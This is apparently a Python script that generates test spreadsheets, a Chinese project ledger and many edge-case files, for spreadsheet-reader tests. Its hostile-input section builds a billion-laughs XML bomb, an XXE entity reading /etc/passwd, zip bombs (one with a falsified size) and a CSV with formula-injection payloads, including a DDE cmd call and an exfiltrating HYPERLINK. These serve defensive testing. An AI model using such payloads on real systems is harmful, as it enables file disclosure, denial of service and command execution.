#!/usr/bin/python3
"""Writes the spreadsheets test_sheetreaders reads.

Run from anywhere with Debian's Python (python3-openpyxl, python3-xlsxwriter, python3-xlwt) and LibreOffice
(libreoffice-calc-nogui) installed:

    /usr/bin/python3 tests/data/sheets/make_sheets.py

The same city ledger is written by openpyxl and by xlsxwriter, then converted by LibreOffice to
.xlsx, .xls and UTF-8 CSV, and re-encoded to GB18030, so the test can check that every reader sees
the same values. The edge-case files are written by hand with zipfile, byte for byte, because no
writer produces them on purpose. The zip bombs are made here too: they compress to a few hundred KB.
"""

import datetime
import io
import os
import shutil
import subprocess
import sys
import tempfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))

TITLE = "2023年全市重大科技创新项目推进台账"
UNIT_LINE = "填报单位：市科技局项目办　　　　　　单位：万元"
FOOTER = "填表人：张三　　联系电话：0379-63912345　　填报日期：2023年6月5日"
HEAD1 = ["序号", "项目编号", "项目名称", "建设单位", "责任单位", "分包领导", "总投资（万元）",
         "2023年计划投资", "开工时间", "计划竣工时间", "要素保障需求", None, None, None,
         "建设内容及进度安排"]
HEAD2 = [None] * 10 + ["资金", "土地", "用工", "环评", None]
D = datetime.date
# (序号, 编号, 名称, 建设单位, 责任单位, 领导, 总投资, 计划投资, 开工, 竣工, 资金, 土地, 用工, 环评, 内容)
GROUPS = [
    ("一、高新区（3个）", [
        (1, "GX-2023-001", "洛阳智能装备创新中心", "洛阳智造科技有限公司", "高新区", "王建国（副市长）",
         125000.5, 30000, D(2023, 5, 1), "2024年12月31日", 5000, "120亩", None, "已批复",
         "3月底前完成土地摘牌；6月底前开工建设；9月底前主体完工"),
        (2, "GX-2023-002", "新材料中试基地", "中钢新材料股份有限公司", "高新区", "李卫东（秘书长）",
         "12,500", 4200, D(2023, 3, 15), "2023.12.31", None, None, "80人", None,
         "建设中试线两条"),
        (3, "GX-2023-003", "工业软件适配验证平台", "河洛软件研究院", "高新区", "王建国（副市长）",
         8600, 2600, "2023年5月", "2024/6/30", 800, None, None, None, "平台建设"),
    ]),
    ("二、涧西区（2个）", [
        (4, "JX-2023-001", "轴承数字化车间改造", "洛轴集团", "涧西区", "赵红梅（副市长）",
         36000, 9000, D(2022, 11, 20), "2023-10-31", None, "35亩", None, "待审批",
         "6月底前完成设备安装"),
        (5, "JX-2023-002", "耐火材料国家重点实验室扩建", "中钢洛耐院", "涧西区", "赵红梅（副市长）",
         15800, 5200, D(2023, 7, 10), "2025年3月", None, None, None, None, "人才培养"),
    ]),
]
DICTIONARY = [("项目类别", "项目阶段"), ("平台建设", "谋划"), ("人才培养", "前期"), ("地企合作", "在建"),
              ("军民融合", "建成"), ("成果转化", "投产")]
DATE_FORMAT = 'yyyy"年"m"月"d"日"'
AMOUNT_FORMAT = "#,##0.00"
LAST_COL = "O"


def ledger_rows():
    """The rows of the ledger sheet below the header: (kind, values)."""
    rows = []
    data_rows = []
    r = 5
    for group, projects in GROUPS:
        rows.append(("group", [group]))
        r += 1
        for p in projects:
            rows.append(("project", list(p)))
            data_rows.append(r)
            r += 1
    return rows, data_rows


def write_openpyxl(path):
    import openpyxl
    from openpyxl.styles import Alignment, Font

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "重点项目台账"
    ws.append([TITLE])
    ws.merge_cells(f"A1:{LAST_COL}1")
    ws["A1"].font = Font(size=18, bold=True)
    ws["A1"].alignment = Alignment(horizontal="center")
    ws.append([UNIT_LINE])
    ws.merge_cells(f"A2:{LAST_COL}2")
    ws.append(HEAD1)
    ws.append(HEAD2)
    for col in "ABCDEFGHIJ":
        ws.merge_cells(f"{col}3:{col}4")
    ws.merge_cells("K3:N3")
    ws.merge_cells("O3:O4")
    rows, data_rows = ledger_rows()
    for kind, values in rows:
        ws.append(values)
        r = ws.max_row
        if kind == "group":
            ws.merge_cells(f"A{r}:{LAST_COL}{r}")
            continue
        for col in "GH":
            if isinstance(ws[f"{col}{r}"].value, (int, float)):
                ws[f"{col}{r}"].number_format = AMOUNT_FORMAT
        if isinstance(ws[f"I{r}"].value, datetime.date):
            ws[f"I{r}"].number_format = DATE_FORMAT
    total = ws.max_row + 1
    ws.append(["合计", None, None, None, None, None,
               "=SUM(G6:G8,G10:G11)", "=SUM(H6:H8,H10:H11)"])
    ws.merge_cells(f"A{total}:F{total}")
    ws[f"G{total}"].number_format = AMOUNT_FORMAT
    ws[f"H{total}"].number_format = AMOUNT_FORMAT
    ws.append([FOOTER])
    ws.merge_cells(f"A{total + 1}:{LAST_COL}{total + 1}")

    notes = wb.create_sheet("填表说明")
    notes.append(["1. 金额单位为万元。"])
    notes.append(["2. 日期填写格式：2023年5月1日。"])
    dic = wb.create_sheet("字典")
    for row in DICTIONARY:
        dic.append(list(row))
    dic.sheet_state = "hidden"
    wb.save(path)


def write_xlsxwriter(path):
    import xlsxwriter

    wb = xlsxwriter.Workbook(path)
    ws = wb.add_worksheet("重点项目台账")
    title = wb.add_format({"bold": True, "font_size": 18, "align": "center"})
    date = wb.add_format({"num_format": DATE_FORMAT})
    amount = wb.add_format({"num_format": AMOUNT_FORMAT})
    ws.merge_range(f"A1:{LAST_COL}1", TITLE, title)
    ws.merge_range(f"A2:{LAST_COL}2", UNIT_LINE)
    for c, v in enumerate(HEAD1):
        if v is not None and c not in range(10, 14) and c != 14:
            ws.merge_range(2, c, 3, c, v)
    ws.merge_range("K3:N3", "要素保障需求")
    ws.merge_range("O3:O4", HEAD1[14])
    for c, v in enumerate(HEAD2):
        if v is not None:
            ws.write_string(3, c, v)
    rows, data_rows = ledger_rows()
    r = 4
    sums = [0, 0]
    for kind, values in rows:
        if kind == "group":
            ws.merge_range(r, 0, r, 14, values[0])
            r += 1
            continue
        for c, v in enumerate(values):
            if v is None:
                continue
            if isinstance(v, datetime.date):
                ws.write_datetime(r, c, datetime.datetime(v.year, v.month, v.day), date)
            elif isinstance(v, (int, float)):
                ws.write_number(r, c, v, amount if c in (6, 7) else None)
            else:
                ws.write_string(r, c, v)
        for i, c in enumerate((6, 7)):
            if isinstance(values[c], (int, float)):
                sums[i] += values[c]
        r += 1
    ws.merge_range(r, 0, r, 5, "合计")
    # xlsxwriter stores the cached result we give it, as Excel would after a recalculation.
    ws.write_formula(r, 6, "=SUM(G6:G8,G10:G11)", amount, sums[0])
    ws.write_formula(r, 7, "=SUM(H6:H8,H10:H11)", amount, sums[1])
    ws.merge_range(r + 1, 0, r + 1, 14, FOOTER)
    notes = wb.add_worksheet("填表说明")
    notes.write_string(0, 0, "1. 金额单位为万元。")
    notes.write_string(1, 0, "2. 日期填写格式：2023年5月1日。")
    dic = wb.add_worksheet("字典")
    for i, row in enumerate(DICTIONARY):
        dic.write_row(i, 0, row)
    dic.hide()
    wb.close()


def write_xlwt(path):
    """The ledger as python-xlwt writes BIFF8: a workbook stream small enough to live in the
    compound file's mini stream, unlike LibreOffice's."""
    import xlwt

    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("重点项目台账")
    title = xlwt.easyxf("font: bold on, height 360; align: horiz center")
    date = xlwt.easyxf(num_format_str=DATE_FORMAT)
    amount = xlwt.easyxf(num_format_str=AMOUNT_FORMAT)
    ws.write_merge(0, 0, 0, 14, TITLE, title)
    ws.write_merge(1, 1, 0, 14, UNIT_LINE)
    for c, v in enumerate(HEAD1):
        if v is not None and c < 10:
            ws.write_merge(2, 3, c, c, v)
    ws.write_merge(2, 2, 10, 13, "要素保障需求")
    ws.write_merge(2, 3, 14, 14, HEAD1[14])
    for c, v in enumerate(HEAD2):
        if v is not None:
            ws.write(3, c, v)
    rows, data_rows = ledger_rows()
    r = 4
    for kind, values in rows:
        if kind == "group":
            ws.write_merge(r, r, 0, 14, values[0])
            r += 1
            continue
        for c, v in enumerate(values):
            if v is None:
                continue
            if isinstance(v, datetime.date):
                ws.write(r, c, v, date)
            elif isinstance(v, (int, float)):
                ws.write(r, c, v, amount if c in (6, 7) else xlwt.Style.default_style)
            else:
                ws.write(r, c, v)
        r += 1
    ws.write_merge(r, r, 0, 5, "合计")
    # xlwt stores no cached result for a formula, as openpyxl does not.
    ws.write(r, 6, xlwt.Formula("SUM(G6:G8,G10:G11)"), amount)
    ws.write(r, 7, xlwt.Formula("SUM(H6:H8,H10:H11)"), amount)
    ws.write_merge(r + 1, r + 1, 0, 14, FOOTER)
    notes = wb.add_sheet("填表说明")
    notes.write(0, 0, "1. 金额单位为万元。")
    notes.write(1, 0, "2. 日期填写格式：2023年5月1日。")
    dic = wb.add_sheet("字典")
    for i, row in enumerate(DICTIONARY):
        for c, v in enumerate(row):
            dic.write(i, c, v)
    dic.visibility = 1
    wb.save(path)


def write_xlwt_tiny(path):
    """Two cells: xlwt pads the workbook stream to exactly the 4,096-byte mini-stream cutoff,
    the size where FreeXL releases disagree on which sectors hold it."""
    import xlwt

    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("小表")
    ws.write(0, 0, "项目名称")
    ws.write(1, 0, 12.5)
    wb.save(path)


def soffice_convert(src, fmt, dest):
    with tempfile.TemporaryDirectory() as out:
        subprocess.run(["soffice", "--headless", "--norestore", "--convert-to", fmt,
                        "--outdir", out, src], check=True, stdout=subprocess.DEVNULL)
        produced = [f for f in os.listdir(out)]
        if len(produced) != 1:
            sys.exit(f"LibreOffice produced {produced} for {fmt}")
        shutil.move(os.path.join(out, produced[0]), dest)


# --- hand-made xlsx files -------------------------------------------------------------------

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
NS_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
      '</Types>')
REL_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(items):
    body = "".join(f'<Relationship Id="{i}" Type="{REL_DOC}/{t}" Target="{target}"/>'
                   for i, t, target in items)
    return ('<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'{body}</Relationships>')


def workbook_xml(sheets, pr=""):
    body = "".join(f'<sheet name="{name}" sheetId="{n + 1}" r:id="rId{n + 1}"{extra}/>'
                   for n, (name, extra) in enumerate(sheets))
    return f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS} {NS_R}>{pr}<sheets>{body}</sheets></workbook>'


def write_zip(path, entries, sep="/"):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name.replace("/", sep), date_time=(2023, 6, 5, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)


def simple_xlsx(path, sheet_xml, shared=None, styles=None, pr="", sep="/", extra=()):
    entries = [("[Content_Types].xml", CT),
               ("_rels/.rels", rels([("rId1", "officeDocument", "xl/workbook.xml")])),
               ("xl/workbook.xml", workbook_xml([("Sheet1", "")], pr))]
    wb_rels = [("rId1", "worksheet", "worksheets/sheet1.xml")]
    if shared is not None:
        wb_rels.append(("rId2", "sharedStrings", "sharedStrings.xml"))
        entries.append(("xl/sharedStrings.xml", shared))
    if styles is not None:
        wb_rels.append(("rId3", "styles", "styles.xml"))
        entries.append(("xl/styles.xml", styles))
    entries.append(("xl/_rels/workbook.xml.rels", rels(wb_rels)))
    entries.append(("xl/worksheets/sheet1.xml", sheet_xml))
    entries.extend(extra)
    write_zip(path, entries, sep)


def sheet(body, dimension='<dimension ref="A1:A1"/>', tail=""):
    return (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS} {NS_R}>{dimension}'
            f'<sheetData>{body}</sheetData>{tail}</worksheet>')


STYLES = (f'<?xml version="1.0" encoding="UTF-8"?><styleSheet {NS}>'
          '<numFmts count="4">'
          '<numFmt numFmtId="176" formatCode="yyyy&quot;年&quot;m&quot;月&quot;d&quot;日&quot;"/>'
          '<numFmt numFmtId="177" formatCode="[Red]#,##0"/>'
          '<numFmt numFmtId="178" formatCode="0.00&quot;万元&quot;"/>'
          # A custom format that reuses a built-in date id: the custom one wins.
          '<numFmt numFmtId="14" formatCode="0.00"/>'
          '</numFmts>'
          '<cellStyleXfs count="1"><xf numFmtId="0"/></cellStyleXfs>'
          '<cellXfs count="7"><xf numFmtId="0"/><xf numFmtId="176"/><xf numFmtId="177"/>'
          '<xf numFmtId="178"/><xf numFmtId="14"/><xf numFmtId="31"/><xf numFmtId="20"/></cellXfs>'
          '</styleSheet>')


def write_edge_files():
    # Shared strings with rich-text runs and phonetic runs, inline strings, every cell type.
    shared = (f'<?xml version="1.0" encoding="UTF-8"?><sst {NS} count="3" uniqueCount="3">'
              '<si><t>项目名称</t></si>'
              '<si><r><rPr><b/></rPr><t>重大</t></r><r><t xml:space="preserve">科技 </t></r>'
              '<r><t>项目</t></r><rPh sb="0" eb="2"><t>ジュウダイ</t></rPh><phoneticPr fontId="1"/></si>'
              '<si><t>第一行_x000D_\n第二行</t></si>'
              '</sst>')
    body = ('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
            '<c r="C1" t="inlineStr"><is><t>内联文本</t></is></c>'
            '<c r="D1" t="inlineStr"><is><r><t>内联</t></r><r><rPr><i/></rPr><t>富文本</t></r></is></c>'
            '<c r="E1" t="s"><v>2</v></c></row>'
            '<row r="2"><c r="A2" t="b"><v>1</v></c><c r="B2" t="b"><v>0</v></c>'
            '<c r="C2" t="e"><v>#DIV/0!</v></c><c r="D2" t="str"><f>A1&amp;"x"</f><v>项目名称x</v></c>'
            '<c r="E2"><f>SUM(1,2)</f></c><c r="F2"><v>3.5</v></c><c r="G2" t="n"><v>-12</v></c>'
            '<c r="H2" t="d"><v>2023-05-01T00:00:00</v></c></row>'
            '<row r="3"><c r="A3" s="1"><v>45047</v></c><c r="B3" s="2"><v>12500</v></c>'
            '<c r="C3" s="3"><v>0.5</v></c><c r="D3" s="4"><v>45047</v></c>'
            '<c r="E3" s="5"><v>45047.75</v></c><c r="F3" s="6"><v>0.5</v></c></row>')
    simple_xlsx(os.path.join(HERE, "cells.xlsx"), sheet(body), shared, STYLES)

    # No r attributes on rows or cells (counted by position), WPS's dimension of A1:A1.
    body = ('<row><c t="inlineStr"><is><t>甲</t></is></c><c t="inlineStr"><is><t>乙</t></is></c></row>'
            '<row><c><v>1</v></c><c/><c><v>3</v></c></row>'
            '<row r="5"><c r="C5"><v>5</v></c><c><v>6</v></c></row>'
            '<row><c><v>7</v></c></row>')
    simple_xlsx(os.path.join(HERE, "no_refs.xlsx"), sheet(body))

    # Google Sheets leaves the dimension out; Strict OOXML uses other namespaces; targets absolute.
    strict = 'xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"'
    strict_r = 'xmlns:r="http://purl.oclc.org/ooxml/officeDocument/relationships"'
    strict_rel = "http://purl.oclc.org/ooxml/officeDocument/relationships"
    wb = (f'<?xml version="1.0" encoding="UTF-8"?><workbook {strict} {strict_r}><sheets>'
          '<sheet name="隐藏" sheetId="1" state="veryHidden" r:id="rId1"/>'
          '<sheet name="数据" sheetId="2" r:id="rId2"/></sheets></workbook>')
    wrels = ('<?xml version="1.0" encoding="UTF-8"?>'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             f'<Relationship Id="rId1" Type="{strict_rel}/worksheet" Target="/xl/worksheets/a.xml"/>'
             f'<Relationship Id="rId2" Type="{strict_rel}/worksheet" Target="../xl/worksheets/b.xml"/>'
             '</Relationships>')
    sa = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {strict}><sheetData>'
          '<row r="1"><c r="A1" t="inlineStr"><is><t>看不见</t></is></c></row></sheetData></worksheet>')
    sb = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {strict}><sheetData>'
          '<row r="2"><c r="B2" t="inlineStr"><is><t>严格格式</t></is></c><c r="C2"><v>42</v></c></row>'
          '</sheetData><mergeCells count="1"><mergeCell ref="B2:C3"/></mergeCells></worksheet>')
    write_zip(os.path.join(HERE, "strict.xlsx"), [
        ("[Content_Types].xml", CT),
        ("_rels/.rels", rels([("rId1", "officeDocument", "/xl/workbook.xml")])),
        ("xl/workbook.xml", wb), ("xl/_rels/workbook.xml.rels", wrels),
        ("xl/worksheets/a.xml", sa), ("xl/worksheets/b.xml", sb)])

    # The 1904 date system (old Mac Excel): serial 43585 is 2023-05-01.
    styles = (f'<?xml version="1.0" encoding="UTF-8"?><styleSheet {NS}>'
              '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>')
    simple_xlsx(os.path.join(HERE, "date1904.xlsx"),
                sheet('<row r="1"><c r="A1" s="1"><v>43585</v></c></row>'), None, styles,
                pr='<workbookPr date1904="1"/>')

    # Zip entry names with backslashes, as some Windows tools write them.
    simple_xlsx(os.path.join(HERE, "backslash.xlsx"),
                sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>反斜杠路径</t></is></c></row>'),
                sep="\\")

    # A document type declaration with an entity: refused outright.
    dtd = ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
           '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
           f'<worksheet {NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c>'
           '</row></sheetData></worksheet>')
    simple_xlsx(os.path.join(HERE, "dtd.xlsx"), dtd)

    # A cell reference beyond Excel's 16,384 columns.
    simple_xlsx(os.path.join(HERE, "bad_ref.xlsx"),
                sheet('<row r="1"><c r="XFE1"><v>1</v></c></row>'))

    # Zip bombs: 300 MB in the sheet, once declared honestly in the zip directory and once
    # declared as 1000 bytes (libzip reads past a size that lies, so only counting helps). The
    # lying one is made of 1 MB comments, so that the reader meets many tokens of moderate size
    # and must be stopped by the byte count; long_token.xlsx is 20 MB of one whitespace run.
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>'.encode()
    tail = b"</sheetData></worksheet>"
    for name, lie, size in (("bomb.xlsx", False, 300), ("bomb_lying.xlsx", True, 300),
                            ("long_token.xlsx", False, 20)):
        path = os.path.join(HERE, name)
        simple_xlsx(path, sheet('<row r="1"><c r="A1"><v>1</v></c></row>'))
        with zipfile.ZipFile(path) as src:
            parts = [(i.filename, src.read(i)) for i in src.infolist()
                     if i.filename != "xl/worksheets/sheet1.xml"]
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
            for n, data in parts:
                z.writestr(n, data)
            with z.open("xl/worksheets/sheet1.xml", "w") as f:
                f.write(head)
                block = (b"<!--" + b" " * ((1 << 20) - 7) + b"-->") if lie else b" " * (1 << 20)
                for _ in range(size):
                    f.write(block)
                f.write(tail)
        data = bytearray(buf.getvalue())
        if lie:
            actual = len(head) + 300 * (1 << 20) + len(tail)
            fake = (1000).to_bytes(4, "little")
            real = actual.to_bytes(4, "little")
            for sig, off in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
                i = data.find(sig)
                while i >= 0:
                    if data[i + off:i + off + 4] == real:
                        data[i + off:i + off + 4] = fake
                    i = data.find(sig, i + 4)
        with open(path, "wb") as f:
            f.write(data)

    # A truncated download, a text file with the wrong extension, an encrypted-workbook stub.
    with open(os.path.join(HERE, "ledger_openpyxl.xlsx"), "rb") as f:
        whole = f.read()
    with open(os.path.join(HERE, "truncated.xlsx"), "wb") as f:
        f.write(whole[: len(whole) // 2])
    with open(os.path.join(HERE, "text.xlsx"), "w", encoding="utf-8") as f:
        f.write("项目名称,总投资\n智能装备,12500\n")
    with open(os.path.join(HERE, "encrypted.xlsx"), "wb") as f:
        f.write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016))


def write_csv_files():
    def put(name, data):
        with open(os.path.join(HERE, name), "wb") as f:
            f.write(data)

    with open(os.path.join(HERE, "ledger_lo.csv"), "rb") as f:
        utf8 = f.read()
    put("ledger_gb18030.csv", utf8.decode("utf-8").encode("gb18030"))
    put("utf8_bom.csv", "\ufeff项目编号,项目名称,总投资\r\nGX-001,智能装备,\"12,500\"\r\n".encode("utf-8"))
    put("utf16le_bom.csv", "\ufeff项目编号\t项目名称\nGX-001\t智能装备\n".encode("utf-16-le"))
    put("fullwidth_comma.csv",
        "项目编号，项目名称，责任单位，总投资\n"
        "GX-001，智能装备，高新区，\"12,500\"\n"
        "GX-002，新材料，涧西区，8600\n".encode("utf-8"))
    put("quoted.csv",
        b'\xe5\x90\x8d\xe7\xa7\xb0;"\xe8\xbf\x9b\xe5\xba\xa6"\r\n'
        + '"甲;乙";"3月底前完成土地摘牌\n6月底前开工建设"\r'.encode("utf-8")
        + '"他说""好""";\n'.encode("utf-8")
        + ';"末行"'.encode("utf-8"))
    # "中文测试" in UTF-8 also decodes as GB18030 without any error (as garbage).
    ambiguous = "项目,中文测试\n".encode("utf-8")
    ambiguous.decode("gb18030")
    put("utf8_ambiguous.csv", ambiguous)


def write_hostile_files():
    """The bad-input table of test_badinputs: the classic XML attacks and text a spreadsheet
    would run. (The million-row CSV and the 100,000-character cells are made by the test.)"""
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                        for i in range(1, 10))
              + f']><sst {NS} count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    simple_xlsx(os.path.join(HERE, "billion_laughs.xlsx"),
                sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared=laughs)
    xxe = ('<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           f'<sst {NS} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>')
    simple_xlsx(os.path.join(HERE, "external_entity.xlsx"),
                sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared=xxe)
    with open(os.path.join(HERE, "mixed_encodings.csv"), "wb") as f:
        f.write("项目编号,项目名称,责任单位,总投资\n".encode("utf-8"))
        f.write("GX-001,智能装备产业园,高新区,12500\n".encode("utf-8"))
        f.write("GX-002,新材料研发中心,涧西区,8600\n".encode("gbk"))
    with open(os.path.join(HERE, "formula_injection.csv"), "wb") as f:
        f.write("项目编号,项目名称,责任单位,总投资\n"
                'GX-901,"=HYPERLINK(""http://example.invalid/?x=""&A1,""点击"")",高新区,100\n'
                "GX-902,@SUM(1+1)*cmd|' /C calc'!A0,高新区,200\n"
                "GX-903,+1+1,高新区,300\n".encode("utf-8"))


def main():
    ledger = os.path.join(HERE, "ledger_openpyxl.xlsx")
    write_openpyxl(ledger)
    write_xlsxwriter(os.path.join(HERE, "ledger_xlsxwriter.xlsx"))
    write_xlwt(os.path.join(HERE, "ledger_xlwt.xls"))
    write_xlwt_tiny(os.path.join(HERE, "tiny_xlwt.xls"))
    soffice_convert(ledger, "xlsx", os.path.join(HERE, "ledger_lo.xlsx"))
    soffice_convert(ledger, "xls", os.path.join(HERE, "ledger_lo.xls"))
    soffice_convert(ledger, "csv:Text - txt - csv (StarCalc):44,34,76",
                    os.path.join(HERE, "ledger_lo.csv"))
    write_edge_files()
    # FreeXL must honour an .xls file's 1904 date system too; LibreOffice keeps it on converting.
    soffice_convert(os.path.join(HERE, "date1904.xlsx"), "xls", os.path.join(HERE, "date1904.xls"))
    write_csv_files()
    write_hostile_files()


if __name__ == "__main__":
    main()
